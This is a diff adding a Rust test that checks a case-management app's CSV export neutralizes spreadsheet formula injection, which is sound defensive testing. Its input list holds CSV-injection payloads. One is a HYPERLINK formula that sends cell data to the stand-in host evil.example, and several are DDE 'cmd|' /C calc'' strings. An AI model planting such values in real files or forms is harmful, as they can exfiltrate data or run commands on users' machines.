@@ -364,6 +364,66 @@ async fn auditors_see_who_did_what_from_where_and_nothing_else() {
     );
 }
 
+/// Names typed by a requester reach the case export; none may open as a live formula in a
+/// spreadsheet program (OWASP's rule: a leading `'` before `=`, `+`, `-`, `@`, tab, CR).
+#[tokio::test]
+async fn the_case_export_neutralizes_spreadsheet_formulas() {
+    let app = TestApp::spawn().await;
+    let token = app.token(&app.clerk).await;
+    let formulas = [
+        r#"=HYPERLINK("http://evil.example/?d="&A3,"Open")"#,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ];
+    for f in formulas {
+        let r = reqwest::Client::new()
+            .post(app.url("/api/v1/inquiries"))
+            .bearer_auth(&token)
+            .json(&json!({
+                "category": "visa", "subject": "Help",
+                "requester": {"kind": "sponsor", "name": "A synthetic sponsor"},
+                "people": [{"given_name": f, "family_name": "Testzai"}]
+            }))
+            .send()
+            .await
+            .unwrap();
+        assert!(r.status().is_success(), "{f}: {}", r.text().await.unwrap());
+    }
+    let lead = app.signed_in("lead").await;
+    let (_, page) = app.page(&lead, "/export").await;
+    let code = app.code("lead").await;
+    let r = lead
+        .post(app.url("/export/cases"))
+        .form(&[("csrf", csrf(&page).as_str()), ("code", code.as_str())])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let file = r.text().await.unwrap();
+    // The first line is the mark, then a header and one row per case.
+    let body = file.split_once('\n').unwrap().1;
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let mut rows = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula in the export: {cell:?}"
+            );
+        }
+        rows += 1;
+    }
+    assert_eq!(rows, formulas.len());
+    for f in formulas {
+        assert!(
+            file.contains(&format!("'{f}").replace('"', "\"\"")),
+            "{f} missing: {file}"
+        );
+    }
+}
+
 #[tokio::test]
 async fn leads_export_cases_with_a_fresh_code_marked_and_audited() {
     let app = TestApp::spawn().await;
